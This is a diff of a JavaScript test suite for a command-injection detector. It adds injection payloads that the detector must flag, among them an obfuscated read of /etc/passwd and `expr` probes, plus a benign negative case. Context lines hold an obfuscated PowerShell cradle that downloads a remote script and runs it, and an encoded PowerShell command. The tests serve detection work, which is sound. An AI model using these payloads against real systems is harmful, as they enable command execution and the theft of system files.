@@ -482,6 +482,11 @@ describe('Windows living-off-the-land and obfuscated PowerShell', () => {
     'x&rundll32 shell32.dll,ShellExec_RunDLL calc',
     "i`e`x (N`ew-Ob`je`ct Ne`t.We`bCl`ient).('Down'+'loadStr'+'ing').Invoke('http://203.0.113.77/a.ps1')",
     'p`owershell -e`nc SQBFAFgA',
+    // unset variables glued to words, a quoted variable as an argument, expr's arithmetic probe
+    'example.org;cat$u /etc$u/passwd$u',
+    '& dir "%PROGRAMFILES%"',
+    'localhost|expr 91 + 27',
+    '$(expr 123 + 456)',
   ])('%s alerts at level 1', (payload) => {
     expect(score(commandInjectionPack, payload)).toBeGreaterThanOrEqual(5);
   });
@@ -489,5 +494,6 @@ describe('Windows living-off-the-land and obfuscated PowerShell', () => {
   it('a DLL or share named in prose, or backticks of Markdown code, are no command', () => {
     expect(score(commandInjectionPack, 'the crash is in shell32.dll, see \\\\fileserver\\logs')).toBe(0);
     expect(score(commandInjectionPack, 'run `npm` and `yarn`+`pnpm` in CI')).toBe(0);
+    expect(score(commandInjectionPack, 'costs price$usd /month; expr 3 + 4 is seven')).toBe(0);
   });
 });
